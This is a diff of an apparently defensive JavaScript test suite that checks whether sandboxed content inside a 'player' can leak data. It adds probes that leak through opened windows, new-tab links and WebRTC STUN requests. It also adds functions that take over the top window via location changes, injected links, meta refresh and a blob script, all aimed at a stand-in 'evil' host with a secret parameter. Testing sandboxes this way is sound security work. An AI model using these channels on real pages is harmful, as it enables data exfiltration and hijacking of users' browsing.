@@ -58,16 +58,28 @@ probe('sends data away in the names that it connects to (preconnect)', async () 
   return stage.isConnected()
 })
 
-probe('sends data away by WebRTC', async () => {
-  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stage.stun}` }] })
-  connection.createDataChannel('x')
-  await connection.setLocalDescription(await connection.createOffer())
-  await wait(1_200)
-  return stage.isStunned()
-})
-
 probe('sends data away in the address of a window that it opens', () =>
   sent('window', (url) => open(url) && undefined, 800),
+)
+
+probe('sends data away in the address of a window that the player opens', () =>
+  sent('player-window', (url) => top.open(url) && undefined, 800),
+)
+
+probe('sends data away in a window of its own that it leads elsewhere', () =>
+  sent(
+    'own-window',
+    async (url) => {
+      const opened = open('empty.html')
+      await wait(500)
+      opened.location.href = url
+    },
+    800,
+  ),
+)
+
+probe('sends data away by a link to a new tab', () =>
+  sent('tab', (href) => make('a', { href, target: '_blank', rel: 'noopener' }).click(), 800),
 )
 
 probe('tells another server its address (Referer)', () => stage.referrer('window'))
@@ -78,3 +90,41 @@ probe('sends data away by leading its own frame elsewhere', async () => {
   await wait(600)
   return stage.arrived('self')
 })
+
+/* What ends the page, or the whole window, is tried in a tab of its own each: `leave[name]()`. */
+
+const connect = async ({ RTCPeerConnection }) => {
+  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stage.stun}` }] })
+  connection.createDataChannel('x')
+  await connection.setLocalDescription(await connection.createOffer())
+}
+
+const address = (name) => `${stage.evil}/${name}?secret=1`
+
+window.leave = {
+  rtc: () => connect(window),
+  'rtc-fresh': async () => {
+    const frame = await frameAt('about:blank')
+    return connect(frame.contentWindow)
+  },
+  'rtc-player': () => connect(top),
+  top: () => {
+    top.location.href = address('top')
+  },
+  'top-link': () => {
+    const link = top.document.createElement('a')
+    link.href = address('top-link')
+    top.document.body.append(link)
+    link.click()
+  },
+  'top-meta': () => {
+    const meta = top.document.createElement('meta')
+    meta.httpEquiv = 'refresh'
+    meta.content = `0;url=${address('top-meta')}`
+    top.document.head.append(meta)
+  },
+  'top-page': () => {
+    const text = `<script>location = ${JSON.stringify(address('top-page'))}</script>`
+    top.location = URL.createObjectURL(new Blob([text], { type: 'text/html' }))
+  },
+}
